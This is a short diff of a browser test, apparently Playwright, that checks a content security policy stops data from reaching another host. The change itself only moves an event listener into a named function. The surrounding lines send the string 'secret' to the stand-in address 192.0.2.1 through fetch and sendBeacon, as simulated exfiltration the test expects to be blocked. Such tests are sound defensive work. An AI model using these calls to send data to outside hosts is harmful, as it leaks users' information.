@@ -76,7 +76,8 @@ def test_what_another_host_would_be_sent_is_stopped(page: Page, server: Server) 
     page.evaluate(
         """async () => {
             window.stopped = new Set();
-            document.addEventListener("securitypolicyviolation", (event) => window.stopped.add(event.violatedDirective));
+            const heard = (event) => window.stopped.add(event.violatedDirective);
+            document.addEventListener("securitypolicyviolation", heard);
             await fetch("http://192.0.2.1/?q=secret").catch(() => null);
             navigator.sendBeacon("http://192.0.2.1/", "secret");
             const frame = document.createElement("iframe");
